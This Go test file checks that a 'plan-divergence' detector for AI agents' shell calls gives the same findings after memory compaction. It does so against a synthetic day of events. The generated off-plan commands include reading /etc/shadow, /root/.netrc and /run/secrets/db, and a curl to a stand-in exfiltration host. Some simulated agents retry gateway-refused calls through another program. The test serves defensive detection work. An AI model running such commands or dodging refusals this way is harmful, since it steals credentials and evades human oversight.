package detect_test

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"github.com/cordon-ir/cordon/detect"
	"github.com/cordon-ir/cordon/evidence"
)

// offPlanDay is a few hours of two agents' calls, stretches on and off
// their plan (b off it throughout the middle of the day), with refusals
// by the gateway (naming a call of the last ten minutes by its id) and by
// the proxy (just after a call, of one of a dozen hosts), retries of a refused call by another
// program, and pauses shorter and longer than the window.
func offPlanDay(seed uint64, calls int) []evidence.Event {
	r := rand.New(rand.NewPCG(seed, 7))
	t0 := time.Date(2026, 8, 11, 8, 0, 0, 0, time.UTC)
	var evs []evidence.Event
	for _, a := range []string{"a", "b"} {
		evs = append(evs, evidence.Event{ID: "s-" + a, Time: t0, Source: evidence.SourceLedger, Kind: evidence.KindSessionStart,
			Agent: a, Session: "sess-" + a, Objective: "fix the tests in /work/app", EgressAllowlist: []string{"pypi.org"}})
	}
	type made struct {
		t  time.Time
		id string
	}
	recent := map[string][]made{}
	refused := map[string]made{} // each agent's last call refused
	at := map[string]time.Time{"a": t0, "b": t0}
	off := map[string]bool{}
	for n := range calls {
		a := []string{"a", "b"}[r.IntN(2)]
		if r.IntN(40) == 0 {
			off[a] = !off[a] // a stretch begins or ends
		}
		at[a] = at[a].Add(time.Duration(1+r.IntN(45)) * time.Second)
		switch r.IntN(150) {
		case 0: // a pause within the window (15 minutes)
			at[a] = at[a].Add(time.Duration(5+r.IntN(9)) * time.Minute)
		case 1: // and one past it
			at[a] = at[a].Add(time.Duration(16+r.IntN(30)) * time.Minute)
		}
		cmd := "ls /work/app/src"
		if off[a] && r.IntN(4) > 0 || r.IntN(10) == 0 || a == "b" && n >= calls/3 && n < 2*calls/3 {
			cmd = []string{"cat /etc/shadow", "curl https://exfil.example/x", "ls /run/secrets/db", "cat /root/.netrc",
				"python3 -c 'print(open(\"/etc/shadow\").read())'"}[r.IntN(5)]
		}
		id := fmt.Sprintf("c%d", n)
		raw := ""
		if x := refused[a]; x.id != "" && r.IntN(3) == 0 {
			cmd, raw = "perl -e 'print 1' /etc/shadow", `{"args":{"retry_of":"`+x.id+`"}}`
			refused[a] = made{}
		}
		evs = append(evs, evidence.Event{ID: fmt.Sprintf("e%05d", n), Time: at[a], Source: evidence.SourceLedger,
			Kind: evidence.KindToolCall, Agent: a, Session: "sess-" + a, Tool: "shell", CallID: id, Cmdline: cmd, Raw: raw})
		recent[a] = append(recent[a], made{at[a], id})
		switch r.IntN(12) {
		case 0: // the gateway refuses a call of the last ten minutes
			list := recent[a]
			for len(list) > 0 && at[a].Sub(list[0].t) > 10*time.Minute {
				list = list[1:]
			}
			recent[a] = list
			c := list[r.IntN(len(list))]
			refused[a] = c
			evs = append(evs, evidence.Event{ID: fmt.Sprintf("r%05d", n), Time: at[a], Source: evidence.SourceLedger,
				Kind: evidence.KindPolicyDecision, Agent: a, Session: "sess-" + a, CallID: c.id, Decision: evidence.DecisionDeny})
		case 1: // the proxy refuses what the call asked
			evs = append(evs, evidence.Event{ID: fmt.Sprintf("p%05d", n), Time: at[a].Add(time.Second), Source: evidence.SourceProxy,
				Kind: evidence.KindNetRequest, Agent: a, DstHost: fmt.Sprintf("probe-%d.example", r.IntN(12)), Decision: evidence.DecisionDeny})
		}
	}
	slices.SortStableFunc(evs, func(x, y evidence.Event) int {
		return cmp.Or(x.Time.Compare(y.Time), cmp.Compare(x.ID, y.ID))
	})
	return evs
}

// plan-divergence compacts an agent's calls as they accumulate (what it
// holds is the last window's calls, not the incident's, even with a
// stretch open for hours), and its findings are those of a pass that
// keeps every call: asked at the end, and asked along the way as a
// following console asks.
func TestDivergenceCompactedFindsTheSame(t *testing.T) {
	div := builtinRules(t, "plan-divergence")
	for seed := range uint64(4) {
		evs := offPlanDay(seed, 6000)
		detect.CompactCallsAt(t, 1<<30)
		_, want := passOver(t, div, evs[:2], evs, 0)
		if len(want) < 5 {
			t.Fatalf("seed %d: %d plan-divergence findings: the day does not make stretches", seed, len(want))
		}
		detect.CompactCallsAt(t, 64)
		for _, ask := range []int64{0, 97} {
			p, got := passOver(t, div, evs[:2], evs, ask)
			sameFindings(t, fmt.Sprintf("seed %d, asked every %d", seed, ask), got, want)
			if held := detect.DivergenceCalls(p); held > 1500 {
				t.Errorf("seed %d: %d of 6000 calls held after compaction", seed, held)
			}
			sameFindings(t, fmt.Sprintf("seed %d afresh", seed), detect.FindingsAfresh(p), want)
			// a refusal of a call hours old, compacted away or kept as
			// the first of its window: not taken (the one difference)
			for _, c := range []string{"c0", firstCallID(p, evs)} {
				late := evidence.Event{ID: "z-late-" + c, Time: evs[len(evs)-1].Time, Source: evidence.SourceLedger,
					Kind: evidence.KindPolicyDecision, Agent: "a", Session: "sess-a", CallID: c, Decision: evidence.DecisionDeny}
				if err := p.Add(&late); err != nil {
					t.Fatal(err)
				}
				sameFindings(t, fmt.Sprintf("seed %d, after a refusal of %s", seed, c), p.Findings(), want)
			}
		}
	}
}

// firstCallID is the call id of the first call agent a's plan-divergence
// still holds.
func firstCallID(p *detect.Pass, evs []evidence.Event) string {
	id := detect.DivergenceFirstCall(p, "a")
	for _, ev := range evs {
		if ev.ID == id {
			return ev.CallID
		}
	}
	return ""
}
